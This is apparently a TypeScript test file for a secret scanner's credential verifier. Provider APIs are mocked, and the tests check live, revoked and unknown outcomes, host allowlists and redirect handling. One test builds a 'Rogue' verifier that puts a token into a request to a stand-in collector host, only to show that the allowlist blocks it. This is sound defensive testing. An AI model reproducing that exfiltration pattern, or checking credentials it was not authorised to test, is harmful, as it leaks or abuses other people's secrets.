import nock from "nock";
import { afterEach, beforeAll, afterAll, describe, expect, it } from "vitest";
import type { Finding } from "../../src/engine/types.js";
import { loadRules } from "../../src/rules/load-rules.js";
import { verifiers } from "../../src/verify/verifiers.js";
import { verifyFindings } from "../../src/verify/verify-findings.js";
import type { Verifier } from "../../src/verify/types.js";

// Every provider is simulated with nock; no test touches the network.
beforeAll(() => nock.disableNetConnect());
afterAll(() => nock.enableNetConnect());
afterEach(() => nock.cleanAll());

const ALNUM = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789";
/** A throwaway value made at test time: it only travels to nock. */
const fakeValue = (seed: number) => Array.from({ length: 40 }, (_, i) => ALNUM[(seed * 31 + i * 17) % ALNUM.length]).join("");

function finding(ruleId: string, line = 1, path = "config.env"): Finding {
  return { ruleId, category: "secret", kind: "token", severity: "high", confidence: "high", path, line, column: 1, endLine: line, endColumn: 41, redacted: "****", fingerprint: `${ruleId}:${line}`, valueHash: "h", tags: [] };
}

/** The provider's answer for a live and for a revoked credential. */
const LIVE: Record<string, [number, string]> = { Slack: [200, '{"ok":true,"user":"bot"}'], Cloudflare: [200, '{"success":true,"result":{"status":"active"}}'] };
const REVOKED: Record<string, [number, string]> = {
  Slack: [200, '{"ok":false,"error":"invalid_auth"}'],
  AWS: [403, "<ErrorResponse><Error><Code>InvalidClientTokenId</Code></Error></ErrorResponse>"],
};

function intercept(v: Verifier, value: string, partner: string | undefined, reply: [number, string]) {
  const req = v.request(value, partner);
  const url = new URL(req.url);
  const scope = nock(`https://${url.hostname}`);
  const path = url.pathname + url.search;
  (req.method === "POST" ? scope.post(path) : scope.get(path)).reply(reply[0], reply[1]);
  return scope;
}

describe("verifyFindings", () => {
  it("knows at least 20 providers, each limited to HTTPS hosts of its own, for rules that exist", { timeout: 60_000 }, () => {
    expect(new Set(verifiers.map((v) => v.provider)).size).toBeGreaterThanOrEqual(20);
    const ids = new Set(loadRules().map((r) => r.id));
    for (const v of verifiers) {
      for (const id of v.ruleIds) expect(ids, `${v.provider}: ${id}`).toContain(id);
      const url = new URL(v.request(fakeValue(1), "AKIA" + "Q".repeat(16)).url);
      expect(url.protocol).toBe("https:");
      expect(v.hosts, v.provider).toContain(url.hostname);
    }
  });

  describe.each(verifiers.map((v, i) => [v.provider, v, i] as const))("%s", (_name, v, i) => {
    const value = fakeValue(i + 2);
    const partner = v.needs ? "AKIA" + "ABCDEFGHIJKLMNOP" : undefined;
    const findings = () => (v.needs ? [finding(v.ruleIds[0], 2), finding(v.needs, 1)] : [finding(v.ruleIds[0])]);
    const valueOf = (f: Finding) => (f.ruleId === v.needs ? partner : value);

    it("reports a working credential as live and raises it to critical", async () => {
      const scope = intercept(v, value, partner, LIVE[v.provider] ?? [200, "{}"]);
      const [f] = await verifyFindings(findings(), valueOf, { verifiers: [v] });
      expect(f.verified).toBe("live");
      expect(f.severity).toBe("critical");
      expect(scope.isDone()).toBe(true);
    });

    it("reports a revoked credential as revoked", async () => {
      const scope = intercept(v, value, partner, REVOKED[v.provider] ?? [401, '{"error":"unauthorized"}']);
      const [f] = await verifyFindings(findings(), valueOf, { verifiers: [v] });
      expect(f.verified).toBe("revoked");
      expect(f.severity).toBe("high");
      expect(scope.isDone()).toBe(true);
    });
  });

  it("never sends a value to a host outside the verifier's allowlist", async () => {
    const rogue: Verifier = { provider: "Rogue", ruleIds: ["github-pat"], hosts: ["api.github.com"], request: (v) => ({ url: `https://collector.example.net/?t=${v}` }) };
    const scope = nock("https://collector.example.net").get(/.*/).reply(200, "{}");
    const [f] = await verifyFindings([finding("github-pat")], () => fakeValue(3), { verifiers: [rogue] });
    expect(f.verified).toBe("unknown");
    expect(scope.isDone()).toBe(false);
  });

  it("does not follow a redirect with the credential", async () => {
    const gh = verifiers.find((v) => v.provider === "GitHub")!;
    nock("https://api.github.com").get("/user").reply(302, "", { location: "https://elsewhere.example.net/" });
    const elsewhere = nock("https://elsewhere.example.net").get("/").reply(200, "{}");
    const [f] = await verifyFindings([finding("github-pat")], () => "ghp_" + fakeValue(4), { verifiers: [gh] });
    expect(f.verified).toBe("unknown");
    expect(elsewhere.isDone()).toBe(false);
  });

  it("reports unknown on a network error, a timeout or an unexpected answer", async () => {
    const gh = verifiers.find((v) => v.provider === "GitHub")!;
    nock("https://api.github.com").get("/user").replyWithError("ECONNRESET");
    nock("https://api.github.com").get("/user").delay(2000).reply(200, "{}");
    nock("https://api.github.com").get("/user").reply(500, "oops");
    const out = await verifyFindings([finding("github-pat", 1), finding("github-pat", 2), finding("github-pat", 3)], (f) => `ghp_${fakeValue(10 + f.line!)}`, { verifiers: [gh], timeoutMs: 50, concurrency: 1 });
    expect(out.map((f) => f.verified)).toEqual(["unknown", "unknown", "unknown"]);
  });

  it("checks a repeated value once, leaves findings no verifier knows alone, and is unknown without a value", async () => {
    const gh = verifiers.find((v) => v.provider === "GitHub")!;
    const scope = nock("https://api.github.com").get("/user").once().reply(200, "{}");
    const out = await verifyFindings([finding("github-pat", 1), finding("github-pat", 2), finding("generic-secret", 3), finding("github-pat", 4)], (f) => (f.line === 4 ? undefined : "ghp_" + fakeValue(20)), { verifiers: [gh] });
    expect(out.map((f) => f.verified)).toEqual(["live", "live", undefined, "unknown"]);
    expect(scope.isDone()).toBe(true);
  });

  it("verifies an AWS secret only together with the key id beside it", async () => {
    const aws = verifiers.find((v) => v.provider === "AWS")!;
    const [f] = await verifyFindings([finding("aws-secret-access-key")], () => fakeValue(30), { verifiers: [aws] });
    expect(f.verified).toBe("unknown");
  });
});
